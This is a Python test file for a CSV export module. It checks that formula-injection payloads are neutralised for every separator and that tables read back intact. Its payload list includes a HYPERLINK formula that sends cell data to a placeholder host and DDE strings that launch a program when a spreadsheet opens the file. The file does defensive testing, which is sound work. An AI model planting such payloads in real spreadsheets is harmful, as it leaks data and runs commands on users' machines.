"""No cell of a table is a formula, whatever a spreadsheet takes for its separator, and every table can be read back."""

from __future__ import annotations

import ast
import csv
import io
import itertools
import random
import re
import unicodedata
from pathlib import Path

from semblance.core.csv_cells import csv_line, csv_text, original_text, safe_text
from semblance.core.library.importers.csv_text import CsvFile

TOP = Path(__file__).parents[3]
SEPARATORS = (",", ";", "\t", "|")
#: Payloads, and what may stand before them in a cell.
FORMULAS = (
    '=HYPERLINK("http://a.example/?x="&A1,"open")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "=cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    "\ufe66\u200b1",
)
BEFORE = (
    "",
    " ",
    "  ",
    "\t",
    "\n",
    "\r\n",
    "\r",
    '"',
    "'",
    '" "',
    "\u00a0",
    "\u200b",
    "\ufeff",
    "\x00",
    "\v",
)
INNER = ("x", "", "a;b", 'say "x"', "x,")
NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")


def is_formula(cell):
    """What a spreadsheet may run: a sign of any width first, after blanks and invisible characters, and no number."""
    shown = "".join(one for one in cell if unicodedata.category(one) not in ("Cc", "Cf", "Zs", "Zl", "Zp"))
    plain = unicodedata.normalize("NFKC", shown)
    return plain[:1] in ("=", "+", "-", "@") and NUMBER.fullmatch(cell.strip()) is None


def cells_of(text, separator):
    """The cells that spreadsheets find: with quotation marks, with those within a cell too, and without any."""
    yield from (cell for row in csv.reader(io.StringIO(text), delimiter=separator) for cell in row)
    for line in re.split(r"[\r\n\v\f]", text):
        yield from line.split(separator)
        yield from (cell.strip('" ') for cell in line.split(separator))


def texts():
    for formula, before, inner, separator in itertools.product(
        FORMULAS, BEFORE, INNER, ("", *SEPARATORS, "\n")
    ):
        if inner == "" or separator:
            yield f"{inner}{separator}{before}{formula}"


def test_no_cell_is_a_formula_for_any_separator():
    found = 0
    for number, text in enumerate(texts()):
        rows = [("t", text), (text, "t"), ("a", text, "b")][number % 3 : number % 3 + 1]
        written = csv_text(("id", "note", "more")[: len(rows[0])], rows)
        for separator in SEPARATORS:
            for cell in cells_of(written, separator):
                assert not is_formula(cell), (text, separator, cell, written)
                found += 1
    assert found > 10_000


def test_a_header_is_a_cell_too():
    assert csv_text(("=1+1", "a;@b"), []) == "'=1+1,a;'@b\n"


def read_back(written):
    opened = CsvFile(io.BytesIO(written.encode()), "t.csv", ",")
    return [list(row) for block in opened.blocks(header=False) for row in zip(*block.columns, strict=True)]


def test_a_table_is_read_as_it_was_written():
    for text in texts():
        if "\x00" not in text:
            # The reader drops blanks around a cell, and composes letters.
            plain = text.replace("\r\n", "\n").replace("\r", "\n")
            assert read_back(csv_text(("id", "note"), [("t", text)]))[1] == ["t", plain.strip()], text


def test_text_of_any_characters_can_be_told_again():
    draw = random.Random(3)
    alphabet = "ab=+-@'\"',;|\t\n \u00a0\u200b\uff1d1."
    for _ in range(20_000):
        text = "".join(draw.choices(alphabet, k=draw.randrange(9)))
        safe = safe_text(text)
        assert original_text(safe) == text
        assert not any(
            is_formula(cell) for line in re.split(r"[\n]", safe) for cell in re.split(r"[,;|\t]", line)
        ) or (NUMBER.fullmatch(text)), text


def test_numbers_stay_numbers():
    for number in [-1, 0, 12, -1.5, 1e-300, -2.5e20, 1 / 3, True]:
        written = csv_text(("id", "x"), [("t", number)])
        expected = "yes" if number is True else repr(number)
        assert written == f"id,x\nt,{expected}\n", number
        assert read_back(written)[1] == ["t", expected], number
        assert safe_text(expected) == expected, number


def test_long_text_without_a_formula_takes_no_long_time():
    # A backtracking search would take hours.
    text = "\t" * 200_000 + "x" + "\t" * 200_000 + "="
    assert original_text(safe_text(text)) == text


def test_lines_for_the_clipboard_are_safe_too():
    assert csv_line(map(safe_text, ("a", "=1", "b\tc")), "\t") == 'a\t\'=1\t"b\tc"'


def test_nothing_else_writes_tables():
    """Whoever writes a table uses the function for its lines, with cells that were made safe."""
    found, unsafe = set(), set()
    for file in (*(TOP / "app").rglob("*.py"), *(TOP / "core").rglob("*.py")):
        for node in ast.walk(ast.parse(file.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Call) and isinstance(node.func, ast.Name) and node.func.id == "csv_line":
                made = ast.unparse(node.args[0])
                if not made.startswith(("map(safe_text, ", "map(cell, ")):
                    unsafe.add(f"{file.relative_to(TOP).as_posix()}: {made}")
            if not isinstance(node, ast.Call) or not isinstance(node.func, ast.Attribute):
                continue
            name, owner = node.func.attr, node.func.value
            writer = name in ("writer", "DictWriter") and isinstance(owner, ast.Name) and owner.id == "csv"
            joined = name == "join" and isinstance(owner, ast.Constant) and owner.value in ("\t", ";\t")
            spreadsheet = name in ("to_csv", "to_excel", "savetxt", "to_clipboard", "write_csv", "tofile")
            if writer or joined or spreadsheet:
                found.add(file.relative_to(TOP).as_posix())
        text = file.read_text(encoding="utf-8")
        if re.search(r"import (openpyxl|xlsxwriter|xlwt|odf)\b", text):
            found.add(file.relative_to(TOP).as_posix())
    assert (found, unsafe) == ({"core/csv_cells.py"}, set())
